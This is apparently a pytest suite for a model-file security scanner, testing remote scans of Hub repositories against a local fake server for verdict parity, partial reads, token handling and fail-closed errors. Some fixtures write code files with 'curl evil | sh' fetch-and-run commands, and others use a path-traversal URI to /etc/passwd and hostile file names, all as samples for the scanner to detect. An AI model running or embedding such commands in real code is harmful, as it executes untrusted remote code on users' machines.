"""Scanning Hub repositories where they live, against a local Hub-compatible server with the real
huggingface_hub client: verdicts equal local ones, only needed bytes are read, and failures fail closed."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import save_file

from modelshield import api
from modelshield.cli import main
from modelshield.core.report import FileResult, Report
from modelshield.core.rules import Severity
from modelshield.sources import RemoteInputError
from tests.sources.conftest import FIXTURES, model_requests
from tests.sources.hubserver import HubServer

FAMILIES = ["code_at_load", "code_in_archives", "hdf5", "keras", "malicious", "real", "tf"]


def _verdicts(results: list[FileResult], prefix: str) -> dict[str, list[tuple[Any, ...]]]:
    """Each file's findings with its own path taken out, by name relative to the scanned root."""
    shown: dict[str, list[tuple[Any, ...]]] = {}
    for result in results:
        name = result.path[len(prefix) :].lstrip("/")
        shown[name] = sorted(
            (f.rule_id, f.level.label, f.location.members, f.location.offset, f.evidence.replace(prefix, "<root>"))
            for f in result.findings
        )
    return shown


@pytest.mark.parametrize("family", FAMILIES)
def test_remote_verdict_equals_local(hub: HubServer, family: str) -> None:
    folder = FIXTURES / family
    commit = hub.add_repo(f"fixtures/{family}", folder)
    local = api.scan(str(folder), follow_dependencies=False, jobs=1)
    remote = api.scan(f"hf://fixtures/{family}", follow_dependencies=False, cache=False)
    assert remote.exit_code == local.exit_code
    expected = _verdicts(local.files, str(folder))
    got = _verdicts(remote.files, f"hf://fixtures/{family}@{commit}")
    assert got == expected
    assert any(expected.values()) or family == "real"  # the families hold findings to compare


def _repo(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    folder.mkdir()
    shutil.copy(FIXTURES / "malicious" / "torch_payload.pt", folder / "pytorch_model.bin")
    save_file({"w": np.zeros((1024, 1024), dtype=np.float32)}, str(folder / "model.safetensors"))
    (folder / "config.json").write_text(json.dumps({"model_type": "bert", "architectures": ["BertModel"]}))
    return folder


def test_locations_name_the_remote_object_and_commit(hub: HubServer, tmp_path: Path) -> None:
    commit = hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan("hf://org/model", cache=False)
    pkl = [f for f in report.findings if f.rule_id == "PKL001"]
    assert pkl and pkl[0].location.display == f"hf://org/model@{commit}/pytorch_model.bin!torch_payload/data.pkl"
    doc = json.loads(report.to_json())
    assert doc["remote"]["targets"] == [
        {"uri": "hf://org/model", "root": f"hf://org/model@{commit}", "revision": commit}
    ]
    by_path = {f["path"]: f for f in doc["files"]}
    safetensors = by_path[f"hf://org/model@{commit}/model.safetensors"]["remote"]
    assert safetensors["revision"] == commit and safetensors["digest"].startswith("sha256:")
    assert 0 < safetensors["bytes_fetched"] < (tmp_path / "repo" / "model.safetensors").stat().st_size / 10


def test_report_validates_against_the_schema(hub: HubServer, tmp_path: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    hub.add_repo("org/model", _repo(tmp_path))
    doc = json.loads(api.scan("hf://org/model", cache=False).to_json())
    schema = json.loads((Path(api.__file__).parent / "reports" / "report.schema.json").read_text())
    jsonschema.validate(doc, schema)


def test_token_goes_to_the_hub_never_to_storage(
    hub: HubServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hub.token = "hf_secret"
    hub.add_repo("org/private", _repo(tmp_path), private=True)
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    report = api.scan("hf://org/private", cache=False)
    assert any(f.rule_id == "PKL001" for f in report.findings)
    storage = [r for r in hub.requests if r.server == "storage"]
    assert storage and not any(r.authorized for r in storage)
    assert all(r.authorized for r in hub.requests if r.server == "hub" and "agent-harnesses" not in r.path)


def test_web_addresses_name_the_same_repository(hub: HubServer, tmp_path: Path) -> None:
    commit = hub.add_repo("org/model", _repo(tmp_path))
    whole = api.scan(f"{hub.url}/org/model", cache=False)
    one = api.scan(f"{hub.url}/org/model/resolve/main/pytorch_model.bin", cache=False)
    pinned = api.scan(f"hf://org/model@{commit}/pytorch_model.bin", cache=False)
    assert (
        [r.path for r in one.files] == [r.path for r in pinned.files] == [f"hf://org/model@{commit}/pytorch_model.bin"]
    )
    assert len(whole.files) == 3
    assert [f.evidence for f in one.findings] == [f.evidence for f in pinned.findings]


def test_only_the_needed_bytes_are_read(hub: HubServer, tmp_path: Path) -> None:
    folder = tmp_path / "big"
    folder.mkdir()
    tensors = {f"layer{i}": np.ones((1024, 1024), dtype=np.float32) for i in range(16)}
    save_file(tensors, str(folder / "model.safetensors"))
    hub.add_repo("org/big", folder)
    report = api.scan("hf://org/big", cache=False)
    (result,) = report.files
    assert result.remote is not None and result.findings == []
    assert result.remote["bytes_fetched"] < result.size / 100


def test_server_ignoring_ranges_gives_the_same_verdict(hub: HubServer, tmp_path: Path) -> None:
    hub.ignore_ranges = True
    hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan("hf://org/model", cache=False)
    assert sorted(f.rule_id for f in report.findings) == ["PKL001"]
    assert all(r.remote and r.remote["bytes_fetched"] == r.size for r in report.files)


def test_server_ignoring_ranges_past_the_budget_fails_closed(hub: HubServer, tmp_path: Path) -> None:
    hub.ignore_ranges = True
    hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan("hf://org/model/model.safetensors", cache=False, max_fetch_bytes=64 * 1024)
    assert [f.rule_id for f in report.findings] == ["SCN005"]
    assert "ignores range requests" in report.findings[0].evidence and report.exit_code == 1


def test_server_sending_more_than_asked_is_read_only_as_asked(hub: HubServer, tmp_path: Path) -> None:
    hub.overshoot = 1 << 20
    hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan("hf://org/model", cache=False)
    assert sorted(f.rule_id for f in report.findings) == ["PKL001"]
    st = next(r for r in report.files if r.path.endswith("model.safetensors"))
    assert st.remote is not None and st.remote["requests"] > 1
    assert st.remote["bytes_fetched"] < hub.overshoot  # of the extra megabyte sent per answer, a chunk at most


def test_transfer_failing_mid_scan_is_a_finding_and_not_cached(hub: HubServer, tmp_path: Path) -> None:
    hub.add_repo("org/model", _repo(tmp_path))
    hub.fail_after = 100
    failed = api.scan("hf://org/model/model.safetensors")
    assert [f.rule_id for f in failed.findings] == ["SCN003"]
    assert "transfer" in failed.findings[0].evidence and failed.exit_code == 1
    hub.fail_after = None
    again = api.scan("hf://org/model/model.safetensors")
    assert again.findings == [] and again.files[0].remote is not None and not again.files[0].remote["cached"]


def test_second_scan_of_an_unchanged_repository_costs_one_request(hub: HubServer, tmp_path: Path) -> None:
    hub.add_repo("org/model", _repo(tmp_path))
    first = api.scan("hf://org/model")
    hub.requests.clear()
    second = api.scan("hf://org/model")
    assert len(model_requests(hub)) == 1 and model_requests(hub)[0].startswith("hub /api/models/org/model")
    assert all(r.remote and r.remote["cached"] for r in second.files)
    assert _verdicts(second.files, "") == _verdicts(first.files, "")
    hub.requests.clear()
    api.scan("hf://org/model", cache=False)
    assert len(model_requests(hub)) > 1


def test_cache_command_shows_and_clears(hub: HubServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hub.add_repo("org/model", _repo(tmp_path))
    api.scan("hf://org/model")
    assert main(["cache", "show"]) == 0
    assert ": 3 verdict(s)" in capsys.readouterr().out
    assert main(["cache", "clear"]) == 0
    assert "removed 3 verdict(s)" in capsys.readouterr().out
    main(["cache", "show"])
    assert ": 0 verdict(s)" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("uri", "expected"),
    [
        ("hf://org/missing", "repository not found"),
        ("hf://org/model@v9", "no such revision"),
        ("hf://org/private", "set HF_TOKEN"),
        ("hf://org", "malformed Hub address"),
        ("hf://org/model/../../etc/passwd", "malformed Hub address"),
        ("hf://org/model/nothing.bin", "has no file or folder"),
    ],
)
def test_bad_input_is_one_line_and_exit_2(
    hub: HubServer, tmp_path: Path, capsys: pytest.CaptureFixture[str], uri: str, expected: str
) -> None:
    folder = _repo(tmp_path)
    hub.add_repo("org/model", folder)
    hub.token = "hf_secret"
    hub.add_repo("org/private", folder, private=True)
    assert main(["scan", uri]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("modelshield: error: ") and expected in lines[0]


def test_listing_errors_raise_remote_input_error(hub: HubServer) -> None:
    with pytest.raises(RemoteInputError, match="repository not found"):
        api.scan("hf://org/missing")


def _adapter(tmp_path: Path, base: str) -> Path:
    folder = tmp_path / "adapter"
    folder.mkdir()
    (folder / "adapter_config.json").write_text(
        json.dumps({"base_model_name_or_path": base, "peft_type": "LORA", "r": 8, "target_modules": ["q_proj"]})
    )
    save_file(
        {"base_model.model.q_proj.lora_A.weight": np.zeros((8, 8), dtype=np.float32)},
        str(folder / "adapter_model.safetensors"),
    )
    return folder


def test_dependencies_are_followed_remotely(hub: HubServer, tmp_path: Path) -> None:
    base_commit = hub.add_repo("org/base", _repo(tmp_path))
    adapter_commit = hub.add_repo("org/adapter", _adapter(tmp_path, "org/base"))
    report = api.scan("hf://org/adapter", cache=False)
    assert report.dependencies is not None
    base = next(n for n in report.dependencies.nodes if n.ref == "org/base")
    assert base.resolution == "remote" and base.path == f"hf://org/base@{base_commit}"
    chain = [f for f in report.findings if f.rule_id == "DEP004"]
    assert chain and chain[0].location.path == f"hf://org/adapter@{adapter_commit}/adapter_config.json"
    assert any(r.path == f"hf://org/base@{base_commit}/pytorch_model.bin" and r.findings for r in report.files)


def test_missing_remote_dependency_is_reported_not_scanned(hub: HubServer, tmp_path: Path) -> None:
    hub.add_repo("org/adapter", _adapter(tmp_path, "org/gone"))
    report = api.scan("hf://org/adapter", cache=False)
    assert any(f.rule_id == "DEP003" and "org/gone" in f.evidence for f in report.findings)


def test_remote_code_in_the_repository_is_analysed_as_locally(hub: HubServer, tmp_path: Path) -> None:
    folder = tmp_path / "code"
    folder.mkdir()
    config = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}, "architectures": ["XModel"]}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "modeling_x.py").write_text("import os\nos.system('curl evil | sh')\nclass XModel: pass\n")
    commit = hub.add_repo("org/code", folder)
    local = api.scan(str(folder), cache=False)
    remote = api.scan("hf://org/code", cache=False)
    assert _verdicts(remote.files, f"hf://org/code@{commit}") == _verdicts(local.files, str(folder))
    assert any(f.rule_id.startswith("DEP") for f in remote.findings)


def test_report_totals_are_those_of_a_report(hub: HubServer, tmp_path: Path) -> None:
    hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan(["hf://org/model", str(FIXTURES / "real" / "model.safetensors")], cache=False)
    assert isinstance(report, Report) and len(report.files) == 4


def test_listing_that_understates_a_size_fails_closed(hub: HubServer, tmp_path: Path) -> None:
    hub.understate = 10
    hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan("hf://org/model/pytorch_model.bin", cache=False)
    assert [f.rule_id for f in report.findings] == ["SCN003"] and "listed as" in report.findings[0].evidence


@pytest.mark.parametrize("name", ["../escape.pkl", "/abs.pkl", "a//b.pkl", "pytorch_model.bin/inner.pkl"])
def test_hostile_listing_names_are_refused(hub: HubServer, tmp_path: Path, name: str) -> None:
    hub.fake_names = [name]
    hub.add_repo("org/model", _repo(tmp_path))
    with pytest.raises(RemoteInputError):
        api.scan("hf://org/model", cache=False)


def test_any_https_file_is_read_by_ranges_or_whole(hub: HubServer, tmp_path: Path) -> None:
    hub.add_repo("org/model", _repo(tmp_path))
    blob = next(iter(hub._blobs))
    url = f"{hub.storage_url}/{blob}"
    ranged = api.scan(url, cache=False)
    hub.ignore_ranges = True
    whole = api.scan(url, cache=False)
    assert ranged.files[0].path == whole.files[0].path == url
    assert [f.rule_id for f in ranged.findings] == [f.rule_id for f in whole.findings]
    assert whole.files[0].remote is not None and whole.files[0].remote["bytes_fetched"] == whole.files[0].size


def test_budget_passed_while_reading_by_ranges_fails_closed(hub: HubServer, tmp_path: Path) -> None:
    hub.add_repo("org/model", _repo(tmp_path))
    report = api.scan("hf://org/model/pytorch_model.bin", cache=False, max_fetch_bytes=4096)
    assert "SCN005" in [f.rule_id for f in report.findings] and report.exit_code == 1
    assert report.files[0].remote is not None and report.files[0].remote["bytes_fetched"] <= 2 * 4096 + 4096


def test_deps_command_shows_the_remote_tree(hub: HubServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    base_commit = hub.add_repo("org/base", _repo(tmp_path))
    hub.add_repo("org/adapter", _adapter(tmp_path, "org/base"))
    assert main(["deps", "--format", "json", "--no-cache", "hf://org/adapter"]) == 1
    doc = json.loads(capsys.readouterr().out)
    nodes = {n["ref"]: n for n in doc["dependencies"]["nodes"]}
    assert nodes["org/base"]["resolution"] == "remote" and nodes["org/base"]["path"] == f"hf://org/base@{base_commit}"
    assert nodes["org/base"]["verdict"] == "critical"


def test_remote_code_in_another_repository_is_fetched_and_analysed(hub: HubServer, tmp_path: Path) -> None:
    code = tmp_path / "code"
    code.mkdir()
    (code / "modeling_x.py").write_text("import subprocess\nsubprocess.run(['sh', '-c', 'curl evil | sh'])\n")
    (code / "config.json").write_text(json.dumps({"model_type": "x"}))
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text(
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "org/code--modeling_x.XModel"}})
    )
    code_commit = hub.add_repo("org/code", code)
    commit = hub.add_repo("org/model", model)
    report = api.scan("hf://org/model", cache=False)
    analysed = [f for f in report.findings if f.rule_id == "DEP001" and f.level >= Severity.HIGH]
    assert analysed and analysed[0].location.path == f"hf://org/code@{code_commit}/modeling_x.py"
    chain = [f for f in report.findings if f.rule_id == "DEP004"]
    assert chain and chain[0].location.path == f"hf://org/model@{commit}/config.json"


@pytest.mark.parametrize("form", ["sarif", "text"])
def test_other_report_formats_render_remote_paths(
    hub: HubServer, tmp_path: Path, capsys: pytest.CaptureFixture[str], form: str
) -> None:
    commit = hub.add_repo("org/model", _repo(tmp_path))
    assert main(["scan", "--no-cache", "-f", form, "hf://org/model"]) == 1
    assert f"org/model@{commit}/pytorch_model.bin" in capsys.readouterr().out
